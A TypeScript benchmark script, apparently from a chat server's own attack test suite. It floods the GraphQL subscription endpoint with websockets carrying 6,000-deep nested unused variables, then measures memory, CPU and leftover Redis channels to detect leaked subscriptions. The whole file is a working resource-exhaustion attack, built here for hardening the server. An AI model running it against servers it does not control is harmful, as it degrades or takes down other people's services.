/**
 * Issue 14, item 1: subscriptions whose unused `variables` are nested 6,000 deep. Each socket
 * subscribes to `inbox` and to `messageAdded` of 20 rooms with them, waits a second and closes;
 * 60 sockets over 20 s (the default socket limit is 60 a minute per address). Reports the server's
 * RSS at the start, its peak, and 10 s after the last socket closed, its CPU, the answers by
 * code, and the Redis channels the server still holds afterwards. With `--messages N`, a friend
 * then sends N messages into the rooms (what leaked subscriptions would still be working for).
 *
 *   npx tsx bench/attacks/leak.ts [--url http://127.0.0.1:4000/graphql] [--pid N]
 *     [--sockets 60] [--seconds 20] [--rooms 20] [--depth 6000] [--settle 10] [--messages 0]
 *     [--redis redis://127.0.0.1:6379] [--prefix <REDIS_PREFIX>]
 */
import { flags, mb, ms, must, sleep, table, Tally } from './lib.js';
import { redisChannels, sample, watchPeak } from './server.js';
import { befriend, createRoom, openSocket, signUp, SEND_MESSAGE, subscribeFrame, type User } from './seed.js';

const options = flags({ sockets: 60, seconds: 20, rooms: 20, depth: 6_000, settle: 10, messages: 0 });
const INBOX = 'subscription { inbox { kind roomId } }';
const ROOM = 'subscription ($roomId: ID!) { messageAdded(roomId: $roomId) { id body } }';

/** `{"roomId":…,"unused":{"a":{"a":…1…}}}` as text: JSON.stringify would overflow on the way out. */
const hostileVariables = (declared: Record<string, string>) =>
  `{${JSON.stringify(declared).slice(1, -1)}${Object.keys(declared).length ? ',' : ''}"unused":` +
  '{"a":'.repeat(options.depth) +
  '1' +
  '}'.repeat(options.depth) +
  '}';

async function setup() {
  const attacker = await signUp(options.url, 'leak');
  const friend = await signUp(options.url, 'leak_friend');
  await befriend(options.url, attacker, friend);
  const rooms: string[] = [];
  for (let i = 0; i < options.rooms; i++) rooms.push(await createRoom(options.url, attacker, [friend], `leak ${i}`));
  return { attacker, friend, rooms };
}

/** `--messages` messages from the friend into the rooms, round-robin (within the message limit). */
async function useRooms(friend: User, rooms: string[]) {
  for (let k = 0; k < options.messages; k++) {
    await must(
      options.url,
      SEND_MESSAGE,
      { input: { roomId: rooms[k % rooms.length], body: `after ${k}` } },
      friend.token,
    );
  }
}

/** One socket: every subscription hostile, a second to answer, then closed. Tallies what came back. */
async function oneSocket(user: User, rooms: string[], answers: Tally, sockets: Tally) {
  let socket;
  try {
    socket = await openSocket(options.wsUrl, user.token);
  } catch (err) {
    sockets.add((err as Error).message);
    return;
  }
  sockets.add(null);
  socket.ws.send(subscribeFrame('inbox', INBOX, hostileVariables({})));
  rooms.forEach((roomId, i) => socket.ws.send(subscribeFrame(`room${i}`, ROOM, hostileVariables({ roomId }))));
  const ids = ['inbox', ...rooms.map((_, i) => `room${i}`)];
  await sleep(1_000);
  for (const id of ids) {
    const message = socket.messages.find((candidate) => candidate.id === id);
    const payload = message?.payload as Array<{ extensions?: { code?: string } }> | undefined;
    answers.add(
      !message ? 'no answer' : message.type === 'error' ? (payload?.[0]?.extensions?.code ?? 'error') : message.type,
    );
  }
  socket.ws.close(1000);
  await socket.closed;
}

async function main() {
  const { attacker, friend, rooms } = await setup();
  await sleep(2_000);
  const channelsBefore = await redisChannels(options.pid, options.redis, options.prefix);
  const start = sample(options.pid);
  const stopPeak = watchPeak(options.pid);
  const answers = new Tally();
  const sockets = new Tally();
  const running: Array<Promise<void>> = [];
  const interval = (options.seconds * 1000) / options.sockets;
  for (let i = 0; i < options.sockets; i++) {
    running.push(oneSocket(attacker, rooms, answers, sockets));
    await sleep(interval);
  }
  await Promise.all(running);
  const closedAt = sample(options.pid);
  await useRooms(friend, rooms);
  await sleep(options.settle * 1000);
  const after = sample(options.pid);
  const peak = stopPeak();
  const channelsAfter = await redisChannels(options.pid, options.redis, options.prefix);
  table(`leak: ${options.sockets} sockets × ${rooms.length + 1} subscriptions, variables ${options.depth} deep`, [
    ['sockets (opened / refused)', sockets.toString()],
    ['subscribe answers', answers.toString()],
    ['RSS at start', mb(start.rssMb)],
    ['RSS peak', mb(peak)],
    ['RSS when the last socket closed', mb(closedAt.rssMb)],
    [
      `RSS ${options.settle} s later${options.messages ? ` (${options.messages} messages sent meanwhile)` : ''}`,
      mb(after.rssMb),
    ],
    ['RSS growth (later − start)', mb(after.rssMb - start.rssMb)],
    ['server CPU, attack + settle', ms(after.cpuMs - start.cpuMs)],
    ['Redis channels held by the server, before', channelsBefore.held],
    ['Redis channels held by the server, after', channelsAfter.held],
    ...(channelsAfter.named === null
      ? []
      : ([
          [`PUBSUB CHANNELS ${options.prefix}* before / after`, `${channelsBefore.named} / ${channelsAfter.named}`],
        ] as Array<[string, string]>)),
  ]);
}

await main();
process.exit(0);
